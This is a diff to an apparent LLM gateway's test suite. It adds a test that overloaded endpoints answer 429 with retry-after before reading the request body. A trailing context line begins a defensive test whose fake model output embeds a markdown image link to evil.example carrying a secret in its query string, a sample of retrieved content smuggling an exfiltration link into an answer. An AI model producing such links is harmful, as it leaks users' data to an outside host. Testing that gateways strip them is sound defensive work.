@@ -397,6 +397,29 @@ async def test_embeddings_refuse_what_the_encoder_does_not_make() -> None:
 
 
 @run
+async def test_where_all_is_full_a_request_is_refused_before_its_body_is_read() -> None:
+    sent: list[dict[str, Any]] = []
+
+    async def receive() -> dict[str, Any]:
+        raise AssertionError("the body was read")
+
+    async def send(message: Any) -> None:
+        sent.append(message)
+
+    async with client() as http:
+        http.gateway.generating.capacity = http.gateway.retrieving.capacity = 0
+        headers = [(b"host", b"127.0.0.1"), (b"content-type", b"application/json"), (b"content-length", b"9")]
+        scope = {"type": "http", "method": "POST", "headers": headers, "client": ("127.0.0.1", 1)}
+        for path in (CHAT, "/v1/retrieve", "/v1/embeddings"):
+            sent.clear()
+            await http.keeper({**scope, "path": path}, receive, send)
+            assert sent[0]["status"] == 429
+            assert dict(sent[0]["headers"])[b"retry-after"] == b"1"
+            assert json.loads(sent[1]["body"])["error"]["code"] == "overloaded"
+        assert http.keeper.in_flight == 0
+
+
+@run
 async def test_links_that_a_document_smuggled_into_an_answer_are_gone() -> None:
     backend = FakeBackend()
     backend.raw = "It is ![x](https://evil.example/?q=SECRET) secret0 [1]."
